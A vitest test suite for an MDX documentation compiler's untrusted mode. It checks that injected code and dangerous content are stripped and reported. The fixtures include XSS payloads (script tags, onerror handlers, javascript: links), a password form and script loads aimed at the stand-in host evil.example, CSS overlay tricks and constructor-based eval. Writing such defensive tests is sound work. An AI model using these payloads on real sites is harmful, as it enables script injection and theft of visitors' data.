import { describe, expect, it, test } from 'vitest';
import { compilePage } from '../page/compile-page.ts';
import type { CompiledPage } from '../page/compiled-page.ts';
import { bodyText, renderPage, type TestFiles, testContext } from '../testing/compile-pages.ts';

async function compile(source: string, files: TestFiles = {}, file = 'page.mdx') {
  const context = testContext({ ...files, [file]: source });
  return compilePage(file, source, { ...context, isUntrusted: true });
}

/** All that stands in a page, but for how its code takes HTML that is known. */
function written(html: string, page: CompiledPage): string {
  return html + bodyText(page).replaceAll(/"set:html": _html\[\d+\]/g, '');
}

/** Set by every attack that runs. */
const world = globalThis as { pwned?: unknown };

/** HTML and findings of a page whose code would set `pwned`, which none may. */
async function attacked(source: string, files: TestFiles = {}, file?: string) {
  world.pwned = undefined;
  const page = await compile(source, files, file);
  const html = renderPage(page);
  expect(world.pwned).toBeUndefined();
  return { page, html, codes: page.diagnostics.map(({ code }) => code) };
}

const run = '(globalThis.pwned = 1)';

describe('Code in a page of strangers', () => {
  test.each([
    ['an expression in a line', `Text {${run}} more`],
    ['an expression of its own', `{${run}}`],
    ['an expression after a comment', `{/* a */ ${run} /* b */}`],
    ['a function that is called', `{(() => ${run})()}`],
    ['an expression in a heading', `## A {${run}}`],
    ['an expression in a cell', `| a | b |\n| - | - |\n| {${run}} | c |`],
    ['an expression in a list', `- {${run}}`],
    ['an expression in a quote', `> {${run}}`],
    ['an expression in a link', `[a {${run}}](/x)`],
    ['an expression in a footnote', `a[^1]\n\n[^1]: {${run}}`],
    ['an expression between tags', `<Note>\n  {${run}}\n</Note>`],
    ['an expression deep in tags', `<Steps><Step title="a"><Note>{${run}}</Note></Step></Steps>`],
    ['an attribute', `<Card title={${run}}>a</Card>`],
    ['an attribute of an HTML element', `<p title={${run}}>a</p>`],
    ['a value in an object', `<Card style={{ width: ${run} }}>a</Card>`],
    ['a computed name in an object', `<Card style={{ [${run}]: 1 }}>a</Card>`],
    ['a getter in an object', `<Card style={{ get width() { return ${run} } }}>a</Card>`],
    ['a function in an object', `<Card style={{ toString() { return ${run} } }}>a</Card>`],
    ['a value in a list', `<Prompt actions={['copy', ${run}]}>a</Prompt>`],
    ['a template', `<Card title={\`a\${${run}}\`}>a</Card>`],
    ['a tagged template', '<Card title={eval`globalThis.pwned = 1`}>a</Card>'],
    ['an element as an attribute', `<Card icon={<b title={${run}} />}>a</Card>`],
    ['a spread', `<Card {...{ title: ${run} }}>a</Card>`],
    ['a spread of literals', `<p {...{ 'set:html': '<img src=x onerror=alert(1)>' }}>a</p>`],
    ['the prototype of an object', `<Card style={{ __proto__: { a: 1 } }}>a</Card>`],
    ['a sequence', `<Card title={(${run}, 'a')}>a</Card>`],
    ['a regular expression', '<Card title={/a/}>a</Card>'],
    ['a name', '<Card title={process}>a</Card>'],
    ['a member', '{props.constructor.constructor("globalThis.pwned = 1")()}'],
    ['the text of a code block', `<CodeBlock>{[${run}]}</CodeBlock>`],
    ['an expression in a snippet', '<Snippet file="a.mdx" />', { 'snippets/a.mdx': `{${run}}` }],
    [
      'what a snippet is handed',
      `<Snippet file="a.mdx" b={${run}} />`,
      { 'snippets/a.mdx': '{b}' },
    ],
    ['an import', 'import X from "/snippets/x.jsx"\n\n<X />', { 'snippets/x.jsx': run }],
    [
      'an import of a snippet',
      'import X from "/snippets/x.mdx"\n\n<X />',
      { 'snippets/x.mdx': 'a' },
    ],
    ['an import without a name', 'import "/snippets/x.js"', { 'snippets/x.js': run }],
    ['an import with text after it', 'import X from "/x.jsx"\n# Title', { 'x.jsx': run }],
    ['an export', `export const a = ${run}`],
    ['a default export', `export default function A() { return ${run} }`],
    ['an export of all', 'export * from "/x.js"'],
    ['an export of a name', 'export { a } from "/x.js"', { 'x.js': `export const a = ${run}` }],
    ['an export in an element', `<Note>\n\nexport const a = ${run}\n\nMore\n\n</Note>`],
    [
      'an import in an element, with text after it',
      'Text\n\n<Note>\n\nimport X from "/x.jsx"\n<X a={globalThis.pwned = 1} />\n\n</Note>',
      { 'x.jsx': run },
    ],
    ['an export further down', `Text\n\nexport const a = ${run}\n\nMore`],
    [
      'an export in a snippet',
      '<Snippet file="a.mdx" />',
      { 'snippets/a.mdx': `export const a = ${run}\n\nText` },
    ],
    ['code in Markdown', `{${run}}`, {}, 'page.md'],
  ] as [string, string, TestFiles?, string?][])(
    '%s does not run, and is reported',
    async (_, source, files, file) => {
      const { codes, page } = await attacked(source, files, file);
      expect(codes).toContain('untrusted-code');
      expect(page.imports).toEqual([]);
      expect(bodyText(page)).not.toMatch(/_guard|_component|_from_|_file\d/);
    },
  );

  it('is shown as it is written, and said with its place and what to do', async () => {
    const { html, page } = await attacked(`Text {${run}} more\n\n<Card title={a.b}>c</Card>`);
    expect(html).toContain(`Text {${run}} more`);
    expect(page.diagnostics).toMatchObject([
      {
        code: 'untrusted-code',
        line: 1,
        column: 6,
        message: expect.stringContaining('`{(globalThis'),
      },
      {
        code: 'untrusted-code',
        line: 3,
        column: 1,
        message: expect.stringContaining('`title={a.b}` of <Card>'),
      },
    ]);
    expect(page.diagnostics.every(({ hint }) => hint !== undefined)).toBe(true);
  });

  it('says each import and export, at its line', async () => {
    const { page } = await attacked(
      'import A from "a"\nimport B from "b"\n\nText\n\nexport const c = 1\n',
    );
    expect(page.diagnostics.map(({ code, line }) => [code, line])).toEqual([
      ['untrusted-code', 1],
      ['untrusted-code', 2],
      ['untrusted-code', 6],
    ]);
  });

  it('names the snippet that it is in', async () => {
    const { page } = await attacked('a\n\n<Snippet file="a.mdx" />', {
      'snippets/a.mdx': `b\n\n{${run}}`,
    });
    expect(page.diagnostics).toMatchObject([{ file: 'snippets/a.mdx', line: 3, column: 1 }]);
  });
});

test.each([
  ['a number', '<Columns cols={2}>a</Columns>', 'cols={2}'],
  ['a negative number', '<Note cols={-2}>a</Note>', 'cols={-2}'],
  ['a truth value', '<Note open={true}>a</Note>', 'open={true}'],
  ['a text in braces', '<Card title={"A"}>a</Card>', 'title="A"'],
  ['a template without values', '<Card title={`A`}>a</Card>', 'title="A"'],
  ['null', '<Note cols={null}>a</Note>', 'cols={null}'],
  ['a list', "<Prompt actions={['copy', 'cursor']}>a</Prompt>", 'actions={["copy","cursor"]}'],
  ['an object', "<Update rss={{ title: 'A', b: [1] }}>a</Update>", 'rss={{"title":"A","b":[1]}}'],
  ['a style', '<Frame style={{ width: 20 }}>a</Frame>', 'style={{"width":20}}'],
])('%s is a literal and stays', async (_, source, expected) => {
  const page = await compile(source);
  expect(page.diagnostics.filter(({ code }) => code.startsWith('untrusted'))).toEqual([]);
  expect(renderPage(page)).toContain(expected);
});

test('Comments, literal texts, code and braces in fences are content', async () => {
  const source =
    '{/* a comment */}\n\nA{" "}b {3} {`c`}\n\n```js\nconst { a } = b;\n```\n\n`{x}` \\{y}';
  const { codes, html } = await attacked(source);
  expect(codes).toEqual([]);
  expect(html).toContain('A b 3 c');
  expect(html).not.toContain('a comment');
});

test('A fence in a snippet shows its braces and what the page hands to it, and runs neither', async () => {
  const files = { 'snippets/a.mdx': `\`\`\`js\n{name} {${run}}\n\`\`\`` };
  const { codes, page } = await attacked('<Snippet file="a.mdx" name="x" />', files);
  expect(codes).toEqual([]);
  expect(page.writtenCode).toEqual([{ text: `x {${run}}` }]);
});

describe('An element that strangers may not use', () => {
  test.each([
    '<script>alert(1)</script>',
    '<script src="https://evil.example/x.js"></script>',
    '<style>{`*{display:none}`}</style>',
    '<iframe src="https://evil.example"></iframe>',
    '<object data="x.swf"></object>',
    '<embed src="x.swf" />',
    '<form action="https://evil.example"><input name="password" /></form>',
    '<base href="https://evil.example" />',
    '<meta http-equiv="refresh" content="0;url=https://evil.example" />',
    '<link rel="stylesheet" href="https://evil.example/x.css" />',
    '<wm-mermaid data-library="https://evil.example/x.js">a</wm-mermaid>',
    '<template><b>a</b></template>',
    '<svg><script>alert(1)</script></svg>',
    '<svg><foreignObject><b>a</b></foreignObject></svg>',
    '<svg><animate attributeName="href" to="x" /></svg>',
    '<svg><use href="https://evil.example/x.svg#a" /></svg>',
    '<math><mtext>a</mtext></math>',
    '<Unknown>a</Unknown>',
    '<SCRIPT>alert(1)</SCRIPT>',
    '<_Mistake mistakes="a" />',
    '<_SideColumn>a</_SideColumn>',
    '<props.children />',
    '<user.x>a</user.x>',
    '<this.x>a</this.x>',
    '<constructor.constructor />',
    '> - <script>alert(1)</script>',
    'Text <b><script>alert(1)</script></b> more',
    '| a |\n| - |\n| <iframe src="x" /> |',
  ])('%s is left out with a diagnostic', async (source) => {
    const { codes, html, page } = await attacked(source);
    expect(codes).toContain('untrusted-element');
    expect(written(html, page)).not.toMatch(
      /<(?:script|style|iframe|object|embed|form|input|base|meta|link|template|use|animate|foreignObject|math|wm-mermaid)\b/i,
    );
    expect(html).not.toContain('evil.example');
  });

  it('keeps the text that it holds, unless that is code', async () => {
    const { html } = await attacked('<form>Text</form>\n\n<script>alert(1)</script>');
    expect(html).toContain('Text');
    expect(html).not.toContain('alert');
  });

  it('is none of the components, of the elements that show content, or of the fragments', async () => {
    const { codes } = await attacked(
      '<Note>a</Note>\n\n<Tree><Tree.File name="b" /></Tree>\n\n<div align="center"><img src="/a.png" alt="" width="20" /></div>\n\n<><sub>a</sub><Fragment>b</Fragment></>\n\n<details open><summary>a</summary>b</details>\n\n<svg viewBox="0 0 1 1"><path d="M0 0" strokeWidth="2" fill="currentColor" /></svg>\n\n<video controls playsInline src="/a.mp4" />',
    );
    expect(codes.filter((code) => code.startsWith('untrusted'))).toEqual([]);
  });
});

describe('An attribute that strangers may not use', () => {
  test.each([
    '<img src="/a.png" alt="" onerror="alert(1)" />',
    '<p onClick="alert(1)">a</p>',
    '<p ONCLICK="alert(1)">a</p>',
    '<Card onclick="alert(1)">a</Card>',
    '<Link href="/a" onMouseOver="alert(1)">a</Link>',
    '<p set:html="<img src=x onerror=alert(1)>">a</p>',
    '<Card set:html="<img src=x onerror=alert(1)>">a</Card>',
    '<Card titleHtml="<img src=x onerror=alert(1)>">a</Card>',
    '<p dangerouslySetInnerHTML={{ __html: "<b>" }}>a</p>',
    '<Note client:load="a">a</Note>',
    '<p is:raw="a">a</p>',
    '<a xlink:href="/a">a</a>',
    '<p data-wm-copy="a">a</p>',
    '<Note data-library="x">a</Note>',
    '<img src="/a.png" alt="" srcdoc="a" />',
    '<p formaction="/x">a</p>',
    '<p style="position:fixed;inset:0">a</p>',
    '<p style={{ position: "fixed" }}>a</p>',
    '<Frame style={{ backgroundImage: "url(https://evil.example)" }}>a</Frame>',
    '<p style="background:url(https://evil.example)">a</p>',
    '<p style="background:u\\72l(https://evil.example)">a</p>',
    '<p style="width:1px;--x:1">a</p>',
    '<p className="fixed inset-0">a</p>',
    '<p class="md:absolute">a</p>',
    '<Note className="[position:fixed]">a</Note>',
    '<p className="[body:has(&)_#sidebar]:hidden">a</p>',
    '<p className="relative">a</p>',
    '<p className="md:-left-96">a</p>',
    '<p className="-mt-96">a</p>',
    '<p className="!-translate-y-96">a</p>',
    '<p className="z-50">a</p>',
    '<p className="ring-9999">a</p>',
    '<p className="bg-[image-set(&quot;https://evil.example&quot;_1x)]">a</p>',
    '<p style="margin-top: calc(100vh*cos(180deg))">a</p>',
    '<p style="box-shadow: 0 0 0 9999px red">a</p>',
    '<p class="wm-header">a</p>',
  ])('%s is left out with a diagnostic', async (source) => {
    const { codes, html, page } = await attacked(source);
    expect(codes).toContain('untrusted-attribute');
    expect(written(html, page)).not.toMatch(
      /alert|onerror|onclick|set:html|Html"|dangerously|client:|is:raw|xlink|data-(?!wm-zoom)|srcdoc|formaction|fixed|evil|absolute|wm-header|--x/i,
    );
  });
});

describe('An address that runs code or brings its own content', () => {
  test.each([
    '[a](javascript:alert(1))',
    '[a](<java script:alert(1)>)',
    '[a](javascript&colon;alert(1))',
    '[a](JaVaScRiPt:alert(1))',
    '[a][b]\n\n[b]: javascript:alert(1)',
    '![a](data:image/svg+xml;base64,PHN2Zz4=)',
    '[a](data:text/html,x)',
    '<a href="javascript:alert(1)">a</a>',
    '<a href="java&#10;script:alert(1)">a</a>',
    '<a href="&#9;javascript:alert(1)">a</a>',
    '<a href={"javascript:alert(1)"}>a</a>',
    '<a href={"java\\nscript:alert(1)"}>a</a>',
    '<a href={`vbscript:x`}>a</a>',
    '<img src="data:image/png;base64,AAAA" alt="" />',
    '<img srcset="/a.png 1x, data:text/html,b 2x" alt="" />',
    '<video poster="blob:x" src="/a.mp4" />',
    '<Card href="javascript:alert(1)" title="a">b</Card>',
    '<Card img="data:image/png;base64,x" title="a">b</Card>',
    '<Badge href="javascript:alert(1)">b</Badge>',
    '<Tooltip tip="a" cta="b" href="javascript:alert(1)">b</Tooltip>',
    '<Link to="javascript:alert(1)">b</Link>',
    '<Frame caption="[a](javascript:alert(1))">b</Frame>',
    '<Update label="a" rss={{ title: "b", links: ["javascript:alert(1)"] }}>b</Update>',
    '<Anything title="x" />\n\n<Note custom="javascript:alert(1)">b</Note>',
  ])('%s is left out with a diagnostic', async (source) => {
    const { codes, html, page } = await attacked(source);
    expect(codes).toContain('untrusted-address');
    expect(written(html, page)).not.toMatch(
      /"(?:\s|\\n)*(?:j[\s\\n]*ava[\s\\n]*script|vbscript|data|blob):/i,
    );
  });

  it('is none of http, mailto, tel, an app, a path or a text with a colon', async () => {
    const { codes } = await attacked(
      '[a](https://a.example) [b](mailto:a@b) [c](tel:1) [d](vscode:x) [e](#f) <Card href="/x" title="Data: how to get it">b</Card>',
    );
    expect(codes.filter((code) => code.startsWith('untrusted'))).toEqual([]);
  });
});

test('Attributes that Markdown gives a heading are left out, but for its id', async () => {
  const { html, page } = await attacked('## Title {#own .fixed onclick="alert(1)"}');
  expect(page.headings).toMatchObject([{ id: 'own' }]);
  expect(written(html, page)).not.toMatch(/onclick|fixed/);
});

test('A page that the compiler fails on is text', async () => {
  const { codes, html } = await attacked(`<Note>\n\n{${run}\n\n</Note>\n\n<b`);
  expect(codes.length).toBeGreaterThan(0);
  expect(html).toContain('pwned');
});

test('The same page of trusted authors keeps its code', async () => {
  const source = 'export const a = 1\n\n<p title={`${a}`}>{a + 1}</p>';
  const page = await compilePage('page.mdx', source, testContext({ 'page.mdx': source }));
  expect(page.diagnostics).toEqual([]);
  expect(renderPage(page)).toContain('2');
});
